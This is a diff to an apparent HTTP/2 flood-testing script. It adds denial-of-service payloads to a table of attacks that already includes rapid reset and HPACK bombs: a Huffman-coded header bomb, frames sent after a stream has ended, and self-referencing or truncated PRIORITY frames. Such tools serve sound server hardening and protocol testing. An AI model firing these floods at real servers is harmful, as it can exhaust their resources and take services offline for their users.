@@ -127,6 +127,24 @@ def bomb(number, head):
     return frame(HEADERS, END_HEADERS, stream, head + entry + b"\xbe" * 12000)
 
 
+def huffman_zeros(size):
+    """A string literal of HPACK in Huffman code, which is all zeros: 8 characters from 5 bytes. `size`: in bytes."""
+    rest = size - 127
+    return bytes((0xFF, 0x80 | rest & 0x7F, rest >> 7)) + bytes(size)
+
+
+def huffman_bomb(number, head):
+    """Names and values that are longer than what is sent of them."""
+    field = b"\x00" + text(b"x-bomb") + huffman_zeros(8000)
+    return frame(HEADERS, END_HEADERS, 1 + 2 * number, head + field * 2)
+
+
+def after_the_end(kind, payload):
+    """What still comes of a stream that its client has ended."""
+    return lambda number, head: (frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * number, head) +
+                                 frame(kind, END_HEADERS if kind == HEADERS else 0, 1 + 2 * number, payload or head))
+
+
 # name: (frames that begin it, frame number n)
 FLOODS = {
     "rapid reset": (None, rapid_reset),
@@ -142,6 +160,10 @@ FLOODS = {
     "one-byte DATA in turns": (lambda h: frame(HEADERS, END_HEADERS, 1, h) + frame(HEADERS, END_HEADERS, 3, h),
                                lambda n, h: frame(DATA, 0, 1 + n % 2 * 2, b"x")),
     "PRIORITY": (None, lambda n, h: frame(PRIORITY, 0, 1 + 2 * n, struct.pack(">IB", 0, 1))),
+    "PRIORITY on itself": (None, lambda n, h: frame(PRIORITY, 0, 1 + 2 * n, struct.pack(">IB", 1 + 2 * n, 1))),
+    "PRIORITY too short": (None, lambda n, h: frame(PRIORITY, 0, 1 + 2 * n, b"\0\0\0\1")),
+    "DATA after the end": (None, after_the_end(DATA, b"x")),
+    "HEADERS after the end": (None, after_the_end(HEADERS, b"")),
     "WINDOW_UPDATE": (None, lambda n, h: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))),
     "window of 0": (lambda h: frame(HEADERS, END_HEADERS, 1, h),
                            lambda n, h: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0))),
@@ -151,6 +173,7 @@ FLOODS = {
     "made you reset": (None, lambda n, h: frame(HEADERS, END_HEADERS, 1 + 2 * n, h) +
                        frame(WINDOW_UPDATE, 0, 1 + 2 * n, struct.pack(">I", 0x7FFFFFFF))),
     "HPACK bomb": (None, bomb),
+    "Huffman bomb": (None, huffman_bomb),
     "GET": (None, lambda n, h: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * n, b"\x82\x87\x84\x01\x01x")),
     "PUSH_PROMISE": (None, lambda n, h: frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2))),
 }
